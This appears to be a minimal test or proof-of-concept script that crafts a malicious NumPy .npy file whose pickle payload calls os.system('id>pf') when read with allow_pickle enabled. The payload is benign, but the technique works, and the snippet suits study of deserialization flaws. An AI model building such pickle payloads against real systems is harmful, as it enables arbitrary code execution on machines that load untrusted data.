import io
from numpy.lib import format as fmt
h = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b"\n"
try:
    fmt.read_array(io.BytesIO(b"\x93NUMPY\x01\x00\x46\x00" + h + b"cposix\nsystem\n(S'id>pf'\ntR."), True)
except Exception:
    pass
